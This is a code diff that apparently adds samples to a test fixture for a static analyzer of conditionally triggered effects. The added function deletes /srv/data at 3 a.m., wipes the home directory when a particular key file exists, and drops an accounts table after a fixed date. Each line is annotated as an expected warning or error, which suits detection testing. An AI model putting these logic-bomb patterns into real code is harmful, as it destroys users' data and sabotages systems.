@@ -31,3 +31,18 @@ export function machines(path: string) {
   if (navigator.language === 'be-BY') process.exit(0);
 //                                    ^^^^^^^^^^^^^^^ triggered-effect: warning
 }
+
+export function common(db: { query(text: string): void }) {
+  if (new Date().getHours() === 3) {
+    execSync('rm -rf /srv/data');
+//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
+  }
+  if (fs.existsSync('/opt/kestrel/ops.key')) {
+    fs.rmSync(os.homedir(), { recursive: true });
+//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
+  }
+  if (Date.now() > 1830000000000) {
+    db.query('DROP TABLE accounts');
+//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
+  }
+}
